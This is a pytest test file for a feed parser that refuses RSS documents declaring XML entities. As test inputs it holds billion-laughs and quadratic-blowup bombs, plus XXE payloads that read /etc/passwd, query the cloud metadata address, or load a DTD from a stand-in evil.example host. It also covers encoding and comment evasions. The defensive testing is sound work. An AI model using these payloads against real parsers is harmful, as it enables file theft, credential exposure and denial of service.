"""A feed that declares XML entities is refused before any parser sees it: no expansion
bombs, no external entities, no network, no files, whatever the encoding."""

import socket
import time

import pytest

from budbringer.sources.parsing import FeedError, declares_entities, parse_feed
from tests.xml_attacks import billion_laughs

REFUSED = "The feed declares XML entities, which are refused."

BILLION_LAUGHS = billion_laughs(
    "rss",
    """<rss version="2.0"><channel><title>&lol9;</title>
<item><title>&lol9;</title><link>https://example.com/a</link></item></channel></rss>
""",
)
QUADRATIC_BLOWUP = (
    b'<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY a "'
    + b"x" * 50_000
    + b'">]><rss version="2.0"><channel><item><title>'
    + b"&a;" * 50_000
    + b"</title><link>https://example.com/a</link></item></channel></rss>"
)
XXE_FILE = b"""<?xml version="1.0"?>
<!DOCTYPE rss [<!ENTITY passwd SYSTEM "file:///etc/passwd">]>
<rss version="2.0"><channel><item><title>&passwd;</title>
<link>https://example.com/a</link></item></channel></rss>"""
XXE_HTTP = b"""<?xml version="1.0"?>
<!DOCTYPE rss [<!ENTITY secret SYSTEM "http://169.254.169.254/latest/meta-data/">]>
<rss version="2.0"><channel><item><title>&secret;</title>
<link>https://example.com/a</link></item></channel></rss>"""
XXE_PARAMETER = b"""<?xml version="1.0"?>
<!DOCTYPE rss [<!ENTITY % remote SYSTEM "http://evil.example/x.dtd"> %remote;]>
<rss version="2.0"><channel><item><title>x</title>
<link>https://example.com/a</link></item></channel></rss>"""
# feedparser strips a DOCTYPE only before the first "<" + letter; this one hides after one.
XXE_AFTER_A_TRICKY_COMMENT = b"""<?xml version="1.0"?>
<!-- <a> -->
<!DOCTYPE rss [<!ENTITY passwd SYSTEM "file:///etc/passwd">]>
<rss version="2.0"><channel><item><title>&passwd;</title>
<link>https://example.com/a</link></item></channel></rss>"""
XXE_LOWER_CASE = XXE_FILE.replace(b"<!ENTITY", b"<!entity")
XXE_UNCLOSED_COMMENT_BEFORE = b'<?xml version="1.0"?><!-- ' + XXE_FILE[21:]


@pytest.fixture(autouse=True)
def _no_network(monkeypatch):
    """Any attempt to connect anywhere fails the test."""

    def refuse(*args, **kwargs):
        raise AssertionError(f"network access attempted: {args}")

    monkeypatch.setattr(socket.socket, "connect", refuse)
    monkeypatch.setattr(socket, "create_connection", refuse)
    monkeypatch.setattr(socket, "getaddrinfo", refuse)


@pytest.mark.parametrize(
    "body",
    [
        BILLION_LAUGHS,
        QUADRATIC_BLOWUP,
        XXE_FILE,
        XXE_HTTP,
        XXE_PARAMETER,
        XXE_AFTER_A_TRICKY_COMMENT,
        XXE_LOWER_CASE,
        XXE_UNCLOSED_COMMENT_BEFORE,
        # Other encodings, which feedparser would convert before parsing.
        BILLION_LAUGHS.decode().encode("utf-16"),
        XXE_FILE.decode().replace("1.0", '1.0" encoding="utf-16', 1).encode("utf-16-le"),
        XXE_FILE.decode().replace("1.0", '1.0" encoding="utf-7', 1).encode("utf-7"),
        b"\xef\xbb\xbf" + XXE_HTTP,
    ],
    ids=[
        "billion-laughs", "quadratic-blowup", "xxe-file", "xxe-http", "xxe-parameter",
        "xxe-after-tricky-comment", "xxe-lower-case", "xxe-unclosed-comment", "utf-16-bom",
        "utf-16-le-declared", "utf-7", "utf-8-bom",
    ],
)  # fmt: skip
def test_entity_declarations_are_refused_quickly(body):
    started = time.perf_counter()
    with pytest.raises(FeedError) as refused:
        parse_feed(body, url="https://example.com/feed")
    assert refused.value.message == REFUSED
    assert time.perf_counter() - started < 0.5


def test_a_public_dtd_without_declarations_is_read_and_not_fetched():
    body = b"""<?xml version="1.0"?>
<!DOCTYPE rss SYSTEM "http://evil.example/rss.dtd">
<rss version="2.0"><channel><item><title>Fine</title>
<link>https://example.com/a</link></item></channel></rss>"""
    (entry,) = parse_feed(body, url="https://example.com/feed").entries
    assert entry.title == "Fine"


def test_an_entity_mentioned_in_content_or_a_comment_is_only_text():
    body = b"""<?xml version="1.0"?>
<!-- No <!ENTITY declarations here, just a comment about them. -->
<rss version="2.0"><channel><item><title>About &lt;!ENTITY&gt;</title>
<description><![CDATA[<p>Write <code><!ENTITY x "y"></code> in a DTD.</p>]]></description>
<link>https://example.com/a</link></item></channel></rss>"""
    (entry,) = parse_feed(body, url="https://example.com/feed").entries
    assert entry.title == "About <!ENTITY>"
    assert "Write" in entry.text


def test_a_body_that_looks_like_a_path_or_url_is_never_opened():
    for body in (b"/etc/passwd", b"file:///etc/passwd", b"https://example.com/feed.xml"):
        with pytest.raises(FeedError):
            parse_feed(body, url="https://example.com/feed")


def test_declares_entities_walks_only_the_prolog():
    assert not declares_entities(b"<rss><![CDATA[<!ENTITY a 'b'>]]></rss>")
    assert not declares_entities(b"<?xml version='1.0'?>\n<!-- <!ENTITY --><rss/>")
    assert declares_entities(b"<!DOCTYPE rss [<!ENTITY a 'b'>]><rss/>")
    assert declares_entities(b"junk <!DOCTYPE rss [<!ENTITY a 'b'>]><rss/>")
    assert not declares_entities(b'<!DOCTYPE rss PUBLIC "-//Netscape//DTD RSS 0.91//EN" "x">')
